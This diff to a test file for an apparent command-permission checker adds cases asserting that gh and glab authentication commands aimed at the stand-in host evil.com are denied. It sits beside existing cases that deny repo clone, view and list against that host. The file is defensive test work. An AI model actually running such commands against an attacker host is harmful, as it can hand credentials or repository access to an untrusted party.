@@ -159,6 +159,9 @@ describe('gh and glab: stored commands, files sent and written, hosts', () => {
     ['gh pr list -R evil.com/o/r', 'deny'], ['gh pr list --repo=evil.com/o/r', 'deny'], ['gh pr view 1 -R evil.com/a/b', 'deny'], ['gh pr list -Revil.com/o/r', 'deny'],
     ['gh pr list --repo git@evil.com:o/r', 'deny'], ['gh repo clone evil.com/o/r', 'deny'], ['gh repo view evil.com/o/r', 'deny'], ['glab mr list -R evil.com/g/r', 'deny'],
     ['gh pr list -R "$R"', 'ask'],
+    // gh auth's -h is --hostname (elsewhere help).
+    ['gh auth login -h evil.com', 'deny'], ['gh auth status -hevil.com', 'deny'], ['gh auth refresh -h evil.com', 'deny'], ['gh auth logout -h evil.com', 'deny'],
+    ['glab auth login -h evil.com', 'deny'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line)).toBe(expected);
   });
